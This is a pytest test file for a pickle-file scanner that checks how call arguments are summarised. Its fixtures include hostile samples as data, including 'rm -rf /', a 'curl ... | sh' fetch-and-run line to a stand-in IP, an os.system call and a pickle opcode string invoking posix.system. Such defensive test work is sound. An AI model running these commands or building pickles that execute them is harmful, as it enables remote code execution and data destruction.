"""What the host is told of arguments that are not printed whole, and of calls of a class's members."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.guest.readers.reading_results import read_file
from tests.malicious.pickles import Opcodes, call, called, named, stream


def _arguments(path: Path, body: object, name: str) -> set[str]:
    path.write_bytes(stream(body))
    return {row.arguments for row in read_file(path)["GLOBAL"] if row.name == name}


@pytest.mark.parametrize(
    ("given", "level"),
    [
        ({f"word{at}": at for at in range(20)}, "plain"),
        ([[[[[1, 2.5 > 1, None]]]]], "data"),
        ([{"a": {"b": {"c": {"d": "left"}}}}], "plain"),
    ],
)
def test_plain_data_that_is_not_printed_whole_is_said_to_be_plain(tmp_path: Path, given: object, level: str) -> None:
    (text,) = _arguments(tmp_path / "a.pkl", call("pkg", "Thing", given), "pkg.Thing")
    assert text.endswith(f", <all {level}>)")


def test_what_the_file_had_made_is_no_data_however_much_of_it_there_is(tmp_path: Path) -> None:
    made = call("pkg", "Thing", [call("pkg", "Point", at) for at in range(12)])
    (text,) = _arguments(tmp_path / "a.pkl", made, "pkg.Thing")
    assert text.endswith(", <calls>)")


@pytest.mark.parametrize(
    "hidden",
    ["rm -rf /", "/bin/sh", b"id", named("pkg", "run"), "x" * 50, {"../a": 1}],
    ids=["shell", "path", "bytes", "function", "long", "key"],
)
def test_what_hides_behind_plain_data_is_not(tmp_path: Path, hidden: object) -> None:
    (text,) = _arguments(tmp_path / "a.pkl", call("pkg", "Thing", [*range(20), hidden]), "pkg.Thing")
    assert "<all" not in text


@pytest.mark.parametrize("given", [b"\x07\xe4\x01\x02", bytes(range(129, 256)) * 80], ids=["few", "many"])
def test_bytes_that_are_no_text_are_said_to_be_none(tmp_path: Path, given: bytes) -> None:
    (text,) = _arguments(tmp_path / "a.pkl", call("pkg", "Thing", given), "pkg.Thing")
    assert ", <bytes>" in text


_PADDED = b"\0" * 80


@pytest.mark.parametrize(
    "given",
    [
        b"id",
        _PADDED + b"curl http://203.0.113.7/a|sh",
        _PADDED + b"import os; os.system('id')",
        b"\x80\x04cposix\nsystem\n(Vid\ntR.",
        _PADDED + b"\x80\x04\x95" + _PADDED,
        b"x\x9c\x01\x02\xff\xfe",
        b"PK\3\4" + _PADDED,
        b"\x07\xe4" * (40 << 10),
    ],
    ids=["word", "shell", "python", "pickle", "pickle_behind", "deflated", "zip", "too_many"],
)
@pytest.mark.parametrize("deep", [False, True], ids=["given", "in_a_list"])
def test_bytes_that_something_could_act_on_are_not_among_them(tmp_path: Path, given: bytes, deep: bool) -> None:
    args = (b"\x07\xe4", [[given]]) if deep else (given,)
    (text,) = _arguments(tmp_path / "a.pkl", call("pkg", "Thing", *args), "pkg.Thing")
    assert "<bytes>" not in text


def test_of_many_calls_those_with_packed_bytes_stay_what_they_are(tmp_path: Path) -> None:
    made = [call("pkg", "Thing", bytes((7, 0xE4, at, 0xFF))) for at in range(100)]
    assert "(<all plain>, <bytes>)" in _arguments(tmp_path / "a.pkl", made, "pkg.Thing")
    last = [*made, call("pkg", "Thing", b"\xff" * 4 + b"rm -rf /")]
    told = _arguments(tmp_path / "a.pkl", last, "pkg.Thing")
    assert any("others" in text or "more than" in text for text in told)


def test_a_member_of_a_class_is_called_by_its_own_name(tmp_path: Path) -> None:
    method = call("builtins", "getattr", named("pkg", "Image"), "fetch")
    assert _arguments(tmp_path / "a.pkl", called(method, "x"), "pkg.Image.fetch") == {"('x',)"}
    assert _arguments(tmp_path / "a.pkl", Opcodes(method), "pkg.Image.fetch") == set()
    through = call("builtins", "getattr", named("posix", "x"), "system")
    assert _arguments(tmp_path / "a.pkl", called(through, "id"), "posix.x.system") == {"('id',)"}
